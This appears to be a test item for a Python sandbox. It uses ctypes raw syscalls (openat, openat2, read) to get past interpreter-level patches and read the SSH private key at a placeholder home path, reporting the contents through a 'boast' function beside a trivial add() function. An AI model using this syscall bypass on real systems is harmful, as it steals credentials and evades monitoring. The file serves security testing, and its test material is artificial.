#: title = "Opens and reads by raw system calls"
#: why = "Nothing that is patched inside the interpreter stands in the way of libc.syscall."
#: answer = "either"
#: ends = ["any"]
#: boasts = true
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
arm = os.uname().machine == "aarch64"
openat, openat2, read, connect = (56, 437, 63, 203) if arm else (257, 437, 0, 42)
path = b"@HOME@/.ssh/id_ed25519"
how = (ctypes.c_uint64 * 3)(0, 0, 0)
for fd in (libc.syscall(openat, -100, path, 0), libc.syscall(openat2, -100, path, how, 24)):
    if fd >= 0:
        buffer = ctypes.create_string_buffer(4096)
        libc.syscall(read, fd, buffer, 4096)
        boast(buffer.value.decode())


def add(a, b):
    return a + b
